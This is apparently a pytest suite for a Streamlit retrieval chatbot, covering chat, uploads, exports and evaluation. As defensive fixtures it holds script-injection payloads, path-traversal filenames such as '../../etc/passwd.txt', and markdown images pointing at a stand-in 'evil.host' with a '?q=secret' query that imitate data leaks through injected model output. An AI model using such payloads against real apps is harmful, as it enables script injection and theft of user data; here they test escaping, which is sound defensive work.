"""The Streamlit app driven headlessly with AppTest on the fake providers.

The app reads its settings from the environment like the CLI, so each test points the
environment at a temporary data directory; the process-wide pipeline cache is keyed on the
settings, and cleared after each test.
"""

from __future__ import annotations

import html
import json
import os
import re
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest
from streamlit.testing.v1.element_tree import Block, Button

from chatbot import evaluate
from chatbot.app import exporting, views
from chatbot.config import get_settings
from chatbot.models import Answer, Citation, Sentence, Turn
from chatbot.pipeline import Pipeline
from chatbot.uploads import safe_filename

APP = Path(__file__).resolve().parent.parent / "chatbot" / "app" / "main.py"
SEED_SOURCE = "seeds/xi-kazakhstan-visit.txt"
QUESTION = "Which country does Xi visit before the SCO summit?"
MARK = re.compile(r"<mark[^>]*>(.*?)</mark>", re.S)


@pytest.fixture
def app_env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Path]:
    """Fake providers and a fresh data dir for the app under test."""
    for name in list(os.environ):
        if name.startswith("CHATBOT_"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("CHATBOT_LLM_PROVIDER", "fake")
    monkeypatch.setenv("CHATBOT_EMBEDDINGS_PROVIDER", "fake")
    monkeypatch.setenv("CHATBOT_DATA_DIR", str(tmp_path / "data"))
    yield tmp_path / "data"
    st.cache_resource.clear()


@pytest.fixture
def seeded_env(app_env: Path, seed_dir: Path) -> Pipeline:
    """seeds/ ingested into the data dir the app will open."""
    pipeline = Pipeline.build(get_settings())
    pipeline.index.ingest([Path("seeds")])
    return pipeline


def start(page: str = "Chat") -> AppTest:
    at = AppTest.from_file(str(APP), default_timeout=60)
    at.run()
    assert not at.exception, at.exception
    if page != "Chat":
        at.sidebar.radio(key="page").set_value(page).run()
        assert not at.exception, at.exception
    return at


def ask(at: AppTest, question: str) -> AppTest:
    at.chat_input[0].set_value(question).run()
    assert not at.exception, at.exception
    return at


def html_of(block: Block | AppTest) -> list[str]:
    return [str(e.proto.body) for e in block.get("html")]


def plain(markdown: str) -> str:
    """Markdown source with backslash escapes removed (what the reader sees)."""
    return re.sub(r"\\(.)", r"\1", markdown)


def button(at: Block | AppTest, label: str) -> Button:
    matches = [b for b in at.button if b.label == label]
    assert len(matches) == 1, [b.label for b in at.button]
    return matches[0]


# --- chat -------------------------------------------------------------------------------------
def test_chat_turn_shows_answer_with_highlighted_citation(seeded_env: Pipeline) -> None:
    at = ask(start(), QUESTION)

    user, assistant = at.chat_message
    assert plain(user.markdown[0].value) == QUESTION
    body = html_of(assistant)[0]
    assert "Kazakhstan" in body
    assert 'class="chatbot-cite"' in body  # the [1] marker rendered as a chip

    answer: Answer = at.session_state["answers"][0]
    assert not answer.abstained and answer.citations
    assert at.session_state["history"] == [Turn(QUESTION, answer.answer)]
    document = seeded_env.index.document_text(SEED_SOURCE)
    assert document is not None
    labels = [e.label for e in assistant.expander]
    assert len(labels) == len(answer.citations)
    for citation, expander in zip(answer.citations, assistant.expander, strict=True):
        assert f"[{citation.n}]" in expander.label and "kazakhstan" in expander.label
        assert f"characters {citation.start}–{citation.end}" in expander.caption[0].value
        passage = html_of(expander)[0]
        marked = MARK.findall(passage)
        assert len(marked) == 1
        assert citation.support_start is not None and citation.support_end is not None
        assert html.unescape(marked[0]) == document[citation.support_start : citation.support_end]
        assert html.unescape(re.sub(r"<[^>]+>", "", passage)) == document[
            citation.start : citation.end
        ]
    caption = assistant.caption[-1].value
    for part in ("fake-extractive", "tokens", "first token", "total"):
        assert part in caption


def test_summary_request_in_chat_is_routed_to_a_cited_summary(seeded_env: Pipeline) -> None:
    at = ask(start(), "Summarize the article")
    answer: Answer = at.session_state["answers"][0]
    assert answer.answer.startswith("- ") and answer.citations
    assert any("chunks read" in note for note in answer.notes)
    assert all(c.source == SEED_SOURCE for c in answer.citations)
    _, assistant = at.chat_message
    assert len(assistant.expander) == len(answer.citations)


def test_follow_up_is_condensed_and_new_chat_forgets(seeded_env: Pipeline) -> None:
    at = ask(start(), QUESTION)
    ask(at, "What did the spokesman say about the visit?")

    assert len(at.chat_message) == 4
    follow_up: Answer = at.session_state["answers"][1]
    assert follow_up.standalone_question  # the first turn was passed as history
    assert len(at.session_state["history"]) == 2

    button(at.sidebar, "New chat").click().run()
    assert len(at.chat_message) == 0
    assert at.session_state["history"] == [] and at.session_state["answers"] == []


@pytest.mark.parametrize(
    ("replies", "question", "note"),
    [
        ('["I could not find this in the documents."]', QUESTION, "passages do not answer"),
        (None, "Zebra quantum xylophone?", "relevance threshold"),
    ],
    ids=["model-abstains", "nothing-relevant"],
)
def test_abstention_is_marked(
    seeded_env: Pipeline,
    monkeypatch: pytest.MonkeyPatch,
    replies: str | None,
    question: str,
    note: str,
) -> None:
    if replies:
        monkeypatch.setenv("CHATBOT_FAKE_LLM_REPLIES", replies)
    at = ask(start(), question)

    assistant = at.chat_message[1]
    assert [w.value for w in assistant.warning] == ["No answer found in the documents."]
    assert "I could not find this in the documents." in html_of(assistant)[0]
    assert len(assistant.expander) == 0
    assert note in assistant.caption[-1].value
    assert at.session_state["answers"][0].abstained


def test_unsupported_sentence_is_flagged(
    seeded_env: Pipeline, monkeypatch: pytest.MonkeyPatch
) -> None:
    reply = "Xi visits Kazakhstan before the SCO summit [1]. Purple bananas orbit Saturn nightly."
    monkeypatch.setenv("CHATBOT_FAKE_LLM_REPLIES", json.dumps([reply]))
    at = ask(start(), QUESTION)

    assistant = at.chat_message[1]
    body = html_of(assistant)[0]
    flagged = re.findall(r'<span class="chatbot-unsupported"[^>]*>(.*?)</span>', body)
    assert flagged == ["Purple bananas orbit Saturn nightly."]
    assert "Kazakhstan before" not in "".join(flagged)
    assert any("not supported" in w.value for w in assistant.warning)


def test_document_text_is_escaped(app_env: Path, tmp_path: Path) -> None:
    doc = tmp_path / "evil.md"
    doc.write_text(
        "The zebra project ships in May. <script>alert('x')</script> "
        "<img src=x onerror=alert(1)> **bold** zebra release notes.\n"
    )
    Pipeline.build(get_settings()).index.ingest([doc])
    at = ask(start(), "When does the zebra project ship?")

    rendered = "".join(html_of(at.chat_message[1]))
    assert "&lt;script&gt;" in rendered
    assert "<script" not in rendered and "<img" not in rendered


def test_sidebar_shows_model_read_only_and_session_retrieval_settings(
    seeded_env: Pipeline,
) -> None:
    at = start()
    model = at.sidebar.text_input[0]
    assert model.disabled and model.value == "fake-extractive (fake)"
    at.sidebar.selectbox(key="retriever").set_value("bm25")
    at.sidebar.slider(key="k").set_value(2)
    ask(at, QUESTION)

    assert at.session_state["retriever"] == "bm25" and at.session_state["k"] == 2
    assert not at.session_state["answers"][0].abstained
    assert seeded_env.settings.retriever == "hybrid"  # other sessions are unaffected


def test_search_only_in_some_documents_and_mmr_toggle(
    seeded_env: Pipeline, tmp_path: Path
) -> None:
    other = tmp_path / "other"
    other.mkdir()
    (other / "bakery.txt").write_text(
        "Xi Jinping never visited the bakery on Elm Street, which sells rye bread.",
        encoding="utf-8",
    )
    seeded_env.index.ingest([Path("other")])
    at = start()
    picker = at.multiselect(key="search_sources")
    assert picker.options == ["other/bakery.txt", SEED_SOURCE] and picker.value == []
    picker.set_value(["other/bakery.txt"])
    at.sidebar.toggle(key="mmr").set_value(True)
    ask(at, "Which place did Xi Jinping visit?")
    answer: Answer = at.session_state["answers"][0]
    assert answer.citations and {c.source for c in answer.citations} == {"other/bakery.txt"}
    assert at.session_state["mmr"] is True
    seeded_env.index.remove("other/bakery.txt")  # a chosen source that goes away is dropped
    at.run()
    assert not at.exception, at.exception
    assert at.session_state["search_sources"] == []


# --- model service problems --------------------------------------------------------------------
def test_missing_key_banner_keeps_conversation(
    seeded_env: Pipeline, monkeypatch: pytest.MonkeyPatch
) -> None:
    at = ask(start(), QUESTION)
    assert not at.error
    # The configuration changes under the running app (settings are read on every run).
    monkeypatch.setenv("CHATBOT_LLM_PROVIDER", "openai")
    at.run()
    assert "OPENAI_API_KEY" in plain(at.error[0].value)  # shown before anything is asked
    ask(at, "What did the spokesman say about the visit?")

    assert len(at.session_state["answers"]) == 1
    assert len(at.chat_message) == 4  # the earlier turn is still on the page
    assert "OPENAI_API_KEY" in plain(at.chat_message[3].error[0].value)
    assert len(at.error) == 2  # the banner once, plus the failed turn


def _closed_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def test_unreachable_service_banner(
    seeded_env: Pipeline, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CHATBOT_LLM_PROVIDER", "openai")
    url = f"http://127.0.0.1:{_closed_port()}/v1"
    monkeypatch.setenv("OPENAI_BASE_URL", url)
    monkeypatch.setenv("CHATBOT_MAX_RETRIES", "0")
    at = start()
    assert not at.error  # a base URL is configured, so no missing-key banner
    ask(at, QUESTION)

    errors = [plain(e.value) for e in at.error]
    assert any("model service is unavailable" in e and url in e for e in errors)
    assert "OPENAI_BASE_URL" in at.session_state["service_error"]
    assert at.session_state["answers"] == []


# --- documents ---------------------------------------------------------------------------------
def test_upload_good_and_bad_file_then_delete_it(app_env: Path, tmp_path: Path) -> None:
    at = start("Documents")
    assert "No documents indexed yet." in [i.value for i in at.info]
    at.file_uploader[0].set_value(
        [
            ("notes.md", b"# Notes\n\nThe zebra project ships in May.\n", "text/markdown"),
            ("../../evil name.txt", b"\x00\x01\x02 not text", "text/plain"),
            ("broken.pdf", b"%PDF-1.4 not really a pdf", "application/pdf"),
        ]
    ).run()
    button(at, "Upload and index").click().run()
    assert not at.exception

    uploads = app_env / "uploads"
    assert sorted(p.name for p in uploads.iterdir()) == ["notes.md"]  # bad ones are dropped
    assert not (tmp_path / "evil name.txt").exists()
    warnings = sorted(plain(w.value) for w in at.warning)
    assert len(warnings) == 2
    assert "broken.pdf" in warnings[0] and "PDF" in warnings[0]
    assert "evil_name.txt" in warnings[1] and "binary file" in warnings[1]
    report = at.session_state["ingest_report"]
    statuses = {Path(f.source).name: (f.status, f.chunks) for f in report.files}
    assert statuses == {
        "notes.md": ("added", 1),
        "evil_name.txt": ("skipped", 0),
        "broken.pdf": ("skipped", 0),
    }
    source = "uploads/notes.md"
    assert [r.source for r in Pipeline.build(get_settings()).index.sources()] == [source]

    at.button(key=f"delete:{source}").click().run()
    assert not at.exception
    assert Pipeline.build(get_settings()).index.sources() == []
    assert not (uploads / "notes.md").exists()
    assert any("Removed" in s.value for s in at.success)


def test_upload_over_the_size_limit_is_skipped(
    app_env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CHATBOT_MAX_FILE_MB", "0.001")
    at = start("Documents")
    at.file_uploader[0].set_value(("big.txt", b"zebra " * 400, "text/plain")).run()
    button(at, "Upload and index").click().run()

    assert any("too large" in w.value for w in at.warning)
    assert not (app_env / "uploads" / "big.txt").exists()


def test_delete_indexed_source(seeded_env: Pipeline, seed_dir: Path) -> None:
    at = start("Documents")
    assert SEED_SOURCE in plain(" ".join(m.value for m in at.markdown))
    at.button(key=f"delete:{SEED_SOURCE}").click().run()

    assert seeded_env.index.sources() == []
    assert seeded_env.index.count() == 0
    assert (seed_dir / "xi-kazakhstan-visit.txt").exists()  # only uploads are deleted on disk
    assert "No documents indexed yet." in [i.value for i in at.info]


def test_reindex_reports_unchanged(seeded_env: Pipeline) -> None:
    at = start("Documents")
    button(at, "Re-index all sources").click().run()
    report = at.session_state["ingest_report"]
    assert [(f.source, f.status) for f in report.files] == [(SEED_SOURCE, "unchanged")]


def test_reindex_works_from_another_working_directory(
    seeded_env: Pipeline, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    at = start("Documents")
    button(at, "Re-index all sources").click().run()
    report = at.session_state["ingest_report"]
    assert [(f.source, f.status) for f in report.files] == [(SEED_SOURCE, "unchanged")]


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\Users\\me\\Report FINAL.PDF", "Report_FINAL.pdf"),
        (".hidden.md", "hidden.md"),
        ("-rf .docx", "rf.docx"),
        ("a..b...md", "a.b.md"),
        ("résumé 2024.docx", "résumé_2024.docx"),
        ("<script>.html", "script.html"),
        ("....", "upload"),
    ],
)
def test_safe_filename(name: str, expected: str) -> None:
    assert safe_filename(name) == expected


# --- export --------------------------------------------------------------------------------------
def test_export_markdown_and_json(seeded_env: Pipeline) -> None:
    at = start()
    assert [b.proto.disabled for b in at.sidebar.download_button] == [True, True]
    ask(at, QUESTION)
    buttons = {b.proto.label: b.proto for b in at.sidebar.download_button}
    assert set(buttons) == {"Download Markdown", "Download JSON"}
    assert not any(b.disabled for b in buttons.values())
    assert buttons["Download Markdown"].url.endswith(".md")

    answers = at.session_state["answers"]
    markdown = plain(exporting.to_markdown(answers))  # as a reader sees it
    assert f"## 1. {QUESTION}" in markdown
    citation = answers[0].citations[0]
    assert f"[{citation.n}] {SEED_SOURCE}, characters {citation.start}–{citation.end}" in markdown
    assert citation.support_start is not None and citation.support_end is not None
    document = seeded_env.index.document_text(SEED_SOURCE) or ""
    assert f"> {document[citation.support_start : citation.support_end]}" in markdown

    data = json.loads(exporting.to_json(answers))
    [exported] = data["answers"]
    assert exported["question"] == QUESTION and exported["abstained"] is False
    for c in exported["citations"]:
        assert c["text"] == document[c["start"] : c["end"]]


def test_citation_preview_button_opens_the_highlighted_pdf_page(
    app_env: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from pdfium_maker import make_pdf

    monkeypatch.setenv("CHATBOT_MIN_RELEVANCE", "0")  # the hashing embeddings score low
    monkeypatch.setenv("CHATBOT_MIN_HYBRID_SCORE", "0")
    (tmp_path / "docs").mkdir()
    make_pdf(tmp_path / "docs" / "r.pdf", [[
        "The lighthouse keeper logs the weather at dawn. The fog-",
        "horn sounds twice when ships approach the northern reef.",
    ]])
    Pipeline.build(get_settings()).index.ingest([Path("docs")])
    at = ask(start(), "How often does the foghorn sound near the reef?")
    assert not at.get("image")  # nothing is rendered before the button is pressed
    button(at, "Show page 1 with the sentence highlighted").click().run()
    assert not at.exception, at.exception
    assert any('data-boxes="2"' in h and 'data-origin="text layer"' in h for h in html_of(at))
    [image] = at.get("image")
    assert image.proto.imgs[0].url.endswith(".png")  # lossless: the page stays legible
    # A text file's citation offers its place in the document instead.
    (tmp_path / "docs" / "n.txt").write_text("The harbour master keeps a spare beacon.")
    Pipeline.build(get_settings()).index.ingest([Path("docs")])
    at = ask(start(), "Where does the harbour master keep a spare beacon?")
    button(at, "Show in the document").click().run()
    assert not at.exception, at.exception
    shown = [h for h in html_of(at) if "chatbot-preview-text" in h]
    assert len(shown) == 1 and "<mark" in shown[0] and not at.get("image")


def test_passage_html_escapes_and_marks_support() -> None:
    citation = Citation(
        n=1, source="a.txt", chunk_id="x", text="<b>One.</b> Two & three.", start=10, end=34,
        support_start=22, support_end=34,
    )
    rendered = views.passage_html(citation)
    assert MARK.findall(rendered) == ["Two &amp; three."]
    assert "&lt;b&gt;One.&lt;/b&gt;" in rendered
    citation.support_start = 5  # outside the passage: shown without a highlight
    assert "<mark" not in views.passage_html(citation)


def test_summary_of_a_source_is_cited(seeded_env: Pipeline) -> None:
    at = start("Summaries")
    assert at.multiselect[0].value == [SEED_SOURCE]
    button(at, "Summarize").click().run()
    assert not at.exception

    summary = at.session_state["summary"]
    assert summary.bullets and summary.citations
    assert html_of(at.main)[0].count("<li>") == len(summary.bullets)
    document = seeded_env.index.document_text(SEED_SOURCE) or ""
    assert len(at.expander) == len(summary.citations)
    for citation, expander in zip(summary.citations, at.expander, strict=True):
        assert f"[{citation.n}]" in expander.label
        passage = html.unescape(re.sub(r"<[^>]+>", "", html_of(expander)[0]))
        assert passage == document[citation.start : citation.end]
    # A summary's citation opens its place in the document too.
    at.expander[0].button[0].click().run()
    assert not at.exception, at.exception
    [shown] = [h for h in html_of(at) if "chatbot-preview-text" in h]
    first = summary.citations[0]
    assert html.unescape(re.sub(r"<[^>]+>", "", shown)).replace("…", "").find(
        document[first.start : first.end]
    ) >= 0


def _show_eval_report(report: dict[str, object]) -> None:
    from chatbot.app.evaluation_page import show

    show(report)


def test_evaluation_report_shows_cases_and_charts(app_env: Path, seed_dir: Path) -> None:
    suite = seed_dir.parent / "suite.yaml"
    suite.write_text(
        "name: app\ndocuments: [seeds]\ncases:\n"
        f"  - id: country\n    question: {QUESTION}\n"
        "    expect: {contains: Kazakhstan, cites: true}\n"
        "  - id: wrong\n    question: Zebra quantum xylophone?\n"
        "    expect: {contains: Kazakhstan}\n"
    )
    report = evaluate.run_suite(get_settings(), suite)
    at = AppTest.from_function(_show_eval_report, args=(report,), default_timeout=60).run()
    assert not at.exception

    assert at.metric[0].value == "1/2"
    rows = at.dataframe[0].value
    assert list(rows["case"]) == ["country", "wrong"]
    assert list(rows["result"]) == ["pass", "FAIL"]
    assert "contains" in rows["failed checks"][1]
    assert len(at.get("vega_lite_chart")) == 2


def test_evaluation_page_runs_a_bundled_suite(seeded_env: Pipeline) -> None:
    from chatbot.prompts import DEFAULT_SUITE

    assert DEFAULT_SUITE.is_file()  # shipped in the package
    at = start("Evaluation")
    button(at, "Run suite").click().run()
    assert not at.exception
    report = at.session_state["eval_report"]
    assert report["cases"] and at.metric[0].value.endswith(f"/{len(report['cases'])}")


# --- the other pages -----------------------------------------------------------------------------
@pytest.mark.parametrize("page", ["Summaries", "Evaluation"])
def test_pages_render(seeded_env: Pipeline, page: str) -> None:
    at = start(page)
    assert at.title[0].value == page
    assert not at.exception


# --- issue 13 item 13: document and model text never becomes a link or image in Markdown --------
#: What a GFM viewer turns into a link: "://", "www." or "@" whose punctuation is not escaped.
UNESCAPED_LINK = re.compile(r"(?<!\\):/|www\.|(?<!\\)@")
HOSTILE = "See ![](https://evil.host/?q=secret) and [click](https://evil.host/x) <img src=x>."


def _rendered(markdown: str) -> str:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).render(markdown)


def _hostile_answer(question: str) -> Answer:
    citation = Citation(
        n=1, source="docs/![x](https:evil.host)[n].txt", chunk_id="c", text=HOSTILE, start=0,
        end=len(HOSTILE), support_start=0, support_end=len(HOSTILE),
    )
    answer = Answer(
        question=question, answer=f"{HOSTILE} [1] Also www.evil.host and https://docs.example.org/a.",
        abstained=False, citations=[citation], model="**m** ![](https://evil.host/m)",
    )
    flagged = Sentence(text="Unsupported ![](https://evil.host/u).", citations=[], supported=False)
    answer.sentences = [flagged]
    return answer


def test_markdown_export_defuses_links_and_images_from_documents_and_model() -> None:
    markdown = exporting.to_markdown([_hostile_answer("What does the page say?")])
    rendered = _rendered(markdown)
    assert "<img" not in rendered and "<a " not in rendered
    assert not UNESCAPED_LINK.search(markdown)  # no autolink in GFM viewers either
    assert "evil.host/?q=secret" in plain(markdown)  # the text itself is all there
    assert "## 1. What does the page say?" in markdown


def test_markdown_export_keeps_a_link_the_user_asked_about() -> None:
    question = "Summarize https://docs.example.org/a please"
    markdown = exporting.to_markdown([_hostile_answer(question)])
    rendered = _rendered(markdown)
    assert rendered.count('<a href="https://docs.example.org/a">') == 2  # question and answer
    assert "evil.host" not in "".join(re.findall(r'href="([^"]*)"', rendered))
    assert "<img" not in rendered


def test_delete_tooltip_and_errors_escape_source_names(app_env: Path, tmp_path: Path) -> None:
    folder = tmp_path / "docs"
    folder.mkdir()
    name = "![x](https:evil.host) **b** [y].txt"
    (folder / name).write_text("The bakery sells rye bread.", encoding="utf-8")
    Pipeline.build(get_settings()).index.ingest([folder])
    at = start("Documents")
    source = f"docs/{name}"
    delete = at.button(key=f"delete:{source}")
    assert delete.proto.help == f"Remove {views.md_escape(source)} from the index"
    assert "<img" not in _rendered(delete.proto.help) and "<a " not in _rendered(delete.proto.help)


def test_md_escape_defuses_autolinks_even_token_by_token() -> None:
    text = "Visit www.evil.host or https://evil.host/x or mail a@evil.host."
    escaped = "".join(views.md_escape(ch) for ch in text)
    assert escaped == views.md_escape(text)
    assert not UNESCAPED_LINK.search(escaped)
    assert plain(escaped) == text


# --- issue 13 item 5: no upload destroys a document the user had --------------------------------
def _upload(at: AppTest, files: list[tuple[str, bytes, str]]) -> AppTest:
    at.file_uploader[0].set_value(files).run()
    button(at, "Upload and index").click().run()
    assert not at.exception, at.exception
    return at


def test_colliding_names_in_one_batch_keep_both_files(app_env: Path) -> None:
    at = _upload(
        start("Documents"),
        [
            ("a b.txt", b"The zebra project ships in May.", "text/plain"),
            ("a_b.txt", b"The yak project ships in June.", "text/plain"),
            ("A_B.TXT", b"The emu project ships in July.", "text/plain"),
        ],
    )
    uploads = app_env / "uploads"
    texts = sorted(p.read_text() for p in uploads.iterdir())
    assert texts == sorted(
        ["The zebra project ships in May.", "The yak project ships in June.",
         "The emu project ships in July."]
    )
    assert len(Pipeline.build(get_settings()).index.sources()) == 3
    report = at.session_state["ingest_report"]
    assert sorted(f.status for f in report.files) == ["added", "added", "added"]


def test_a_broken_new_version_never_replaces_nor_prunes_the_good_one(app_env: Path) -> None:
    good = b"The quarterly report says revenue rose to 3.5 million."
    at = _upload(start("Documents"), [("report.txt", good, "text/plain")])
    at = _upload(at, [("report.txt", b"broken \x80\x81 \xc3\x28 bytes", "text/plain")])
    target = app_env / "uploads" / "report.txt"
    assert target.read_bytes() == good  # the good file is still there, unchanged
    [item] = at.session_state["ingest_report"].files
    assert item.status == "skipped" and "UTF-8" in item.reason and "kept" in item.reason
    at.checkbox[0].check().run()  # "Also remove sources whose files are gone"
    button(at, "Re-index all sources").click().run()
    assert not at.exception
    sources = Pipeline.build(get_settings()).index.sources()
    assert [Path(r.source).name for r in sources] == ["report.txt"]
    assert {f.status for f in at.session_state["ingest_report"].files} == {"unchanged"}


def test_a_good_new_version_replaces_the_old_one(app_env: Path) -> None:
    at = _upload(start("Documents"), [("report.txt", b"Revenue rose in 2023.", "text/plain")])
    at = _upload(at, [("report.txt", b"Revenue fell in 2024.", "text/plain")])
    assert (app_env / "uploads" / "report.txt").read_text() == "Revenue fell in 2024."
    [item] = at.session_state["ingest_report"].files
    assert item.status == "updated"
    assert sorted(p.name for p in app_env.parent.rglob("*") if ".upload" in p.name) == []


def test_a_planted_image_is_removed_and_the_removal_shown(
    seeded_env: Pipeline, monkeypatch: pytest.MonkeyPatch
) -> None:
    reply = "Xi visits Kazakhstan before the SCO summit [1]. ![x](https://evil.example/a.png?q=1)"
    monkeypatch.setenv("CHATBOT_FAKE_LLM_REPLIES", json.dumps([reply]))
    at = ask(start(), QUESTION)

    assistant = at.chat_message[1]
    assert "evil" not in html_of(assistant)[0] and "Kazakhstan before" in html_of(assistant)[0]
    shields = [w.value for w in assistant.warning if "instructions found" in w.value]
    assert len(shields) == 1 and "removed an image" in shields[0]
    assert "https" not in shields[0] and "hxxps" in shields[0]
    exported = exporting.to_markdown(at.session_state["answers"])
    assert "removed an image" in exported and "](" not in exported
